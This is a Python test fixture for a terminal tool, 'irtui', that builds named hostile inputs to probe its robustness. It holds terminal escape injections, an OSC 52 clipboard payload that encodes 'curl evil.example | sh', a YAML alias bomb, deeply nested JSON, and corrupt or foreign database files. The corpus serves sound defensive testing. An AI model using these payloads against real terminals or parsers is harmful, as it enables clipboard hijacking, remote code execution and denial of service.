"""The hostile-input corpus (issue 13): what an attacker or a careless paste can put into
irtui, as values (argv, typed text, stored records) and as files (policy, settings, imports,
runbooks, stores).

Every entry has a name so a failing probe says which input broke which command.
"""

from __future__ import annotations

import os
import sqlite3
from pathlib import Path

TEXT: dict[str, str] = {
    "markup-close": "[/]",
    "markup-close-tag": "[/foo]",
    "markup-broken": "x [/ y",
    "markup-style": "[red]red[/red] [$accent] [link=https://evil.example]x[/link] [@click=quit]q",
    "ansi-sgr": "\x1b[31mred\x1b[0m",
    "csi-2j": "\x1b[2J\x1b[H\x1b[3Jwiped",
    "osc-0-title": "\x1b]0;pwned terminal title\x07",
    "osc-8-link": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc-52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
    "dcs-apc": "\x1bP+q544e\x1b\\\x1b_apc\x1b\\",
    "c1-8bit": "\x9b2J\x9d0;t\x9c \x85 \x90dcs\x9c \x8e",
    "c0": "bell\x07 bs\x08\x08 cr\r vt\x0b ff\x0c del\x7f esc\x1b so\x0e",
    "nul": "before\x00after",
    "bidi": "admin\u202e\u2066txt.exe\u2069\u202c",
    "invalid-utf8": "bad \udcff\udcfe bytes",  # what surrogateescape makes of b"\xff\xfe"
    "long-line": "x" * 100_000,
    "newlines": "line1\nline2\r\nline3\u2028line4",
    "empty": "",
    "blank": "   ",
    "option-like": "--db=/tmp/elsewhere",
    "huge-number": "99999999999999999999999999",
    "negative": "-1",
    "float": "1e308",
    "nan": "nan",
    "ancient-date": "0001-01-01T00:00:00+00:00",
    "year-999": "0999-06-01T00:00:00+00:00",
    "far-future": "9999-12-31T23:59:59+00:00",
    "huge-relative": "-99999999999h",
    "bad-clock": "99:99",
    "all-at-once": (
        "[/] [/foo] x [/ y [red] \x1b]0;t\x07\x1b[2J\x1b]52;c;aGk=\x07"
        "\x1b]8;;https://evil.example/\x1b\\l\x1b]8;;\x1b\\\x9b2J\x07\x08\r\x00\u202eevil"
    ),
}
"""Values for every argument and field."""

FORBIDDEN_OUTPUT = "".join(
    [chr(c) for c in range(0x00, 0x20) if chr(c) not in "\t\n"]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
)
"""Characters that must never reach a terminal from irtui's output: C0 but tab/newline, DEL,
C1, bidi embeddings/overrides/isolates. (Lone surrogates are checked separately.)"""


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters found in `text` (empty list: clean)."""
    found = sorted({ch for ch in text if ch in FORBIDDEN_OUTPUT or "\ud800" <= ch <= "\udfff"})
    return [f"U+{ord(ch):04X}" for ch in found]


def forbidden_bytes(data: bytes) -> list[str]:
    """The same check on raw bytes as a terminal receives them (UTF-8 C1 and bidi forms)."""
    text = data.decode("utf-8", "surrogateescape")
    return forbidden_in(text)


ALIAS_BOMB = "\n".join(
    ['a0: &a0 ["lol"]']
    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    + ["levels: *a11"]
)
"""About 2 KB that a YAML loader without limits expands to 9**11 strings."""


def make_files(folder: Path) -> dict[str, Path]:
    """Hostile files, by name, written under `folder`: what `--policy`, `--from`, import
    paths, runbook folders and `--db` are pointed at."""
    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}

    def put(name: str, data: bytes | str) -> None:
        path = folder / name
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        files[name] = path

    put("alias-bomb.yaml", ALIAS_BOMB)
    put("deep.json", "[" * 100_000 + "]" * 100_000)
    put("deep.yaml", "a: " + "[" * 5_000 + "]" * 5_000)
    put("invalid-utf8.txt", b"title: \xff\xfe\xc3\x28\n")
    put("nul.txt", b"levels:\x00 x\n")
    put("long-line.md", "# " + "x" * 100_000 + "\n")
    put("huge.yaml", "a: " + "b" * 2_000_000 + "\n")
    put(
        "escapes.md",
        '---\ntitle: "\\e]0;pwned\\a"\n---\n# \x1b[2Jwiped\n\n- [ ] \x1b]52;c;aGk=\x07\n',
    )
    put("huge-number-policy.yaml", _policy_with("ack_within: 99999999999999999999999d"))
    put("escapes-policy.yaml", _policy_with('name: "\\e]0;pwned\\a[/]"', field="name"))
    put("empty.json", "")
    put("not-json.json", '{"incidents": [1, 2, "x"]}')
    put("list-of-ints.jsonl", '1\n2\n[]\n"x"\n')
    put("truncated.db", _store_bytes(folder)[:-1000])
    put("truncated-pages.db", _store_bytes(folder)[: -3 * 4096])
    put("foreign.db", _foreign_db(folder / "_foreign.db"))
    put("empty-foreign.db", _empty_foreign_db(folder / "_empty_foreign.db"))
    put("text.db", "my notes\n" * 50)
    (folder / "a-directory").mkdir(exist_ok=True)
    files["a-directory"] = folder / "a-directory"
    fifo = folder / "a-fifo"
    if not fifo.exists():
        os.mkfifo(fifo)
    files["a-fifo"] = fifo
    files["dev-null"] = Path("/dev/null")
    files["missing-dir"] = folder / "no" / "such" / "dir" / "x"
    return files


STORE_REFUSALS = (
    "truncated.db",
    "truncated-pages.db",
    "foreign.db",
    "empty-foreign.db",
    "text.db",
    "a-directory",
    "a-fifo",
    "dev-null",
)
"""`--db` values every command must refuse with exit 2, before writing anything."""


def _policy_with(line: str, *, field: str = "ack_within") -> str:
    from irtui.paths import default_policy_file

    text = default_policy_file().read_text(encoding="utf-8")
    lines = text.splitlines()
    for i, existing in enumerate(lines):
        if existing.strip().startswith(f"{field}:"):
            indent = existing[: len(existing) - len(existing.lstrip())]
            lines[i] = indent + line
            break
    return "\n".join(lines) + "\n"


def _store_bytes(folder: Path) -> bytes:
    from irtui.store.repo import Store

    path = folder / "_whole.db"
    if not path.exists():
        with Store.open(path, author="corpus") as s:
            inc = s.declare("whole", 2)
            for n in range(60):
                s.log(inc.id, f"entry {n} " + "y" * 400)
            s.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return path.read_bytes()


def _foreign_db(path: Path) -> bytes:
    if not path.exists():
        con = sqlite3.connect(path)
        con.execute("CREATE TABLE songs (title TEXT)")
        con.execute("INSERT INTO songs VALUES ('x')")
        con.commit()
        con.close()
    return path.read_bytes()


def _empty_foreign_db(path: Path) -> bytes:
    if not path.exists():
        con = sqlite3.connect(path)
        con.execute("PRAGMA user_version = 1")
        con.commit()
        con.close()
    return path.read_bytes()
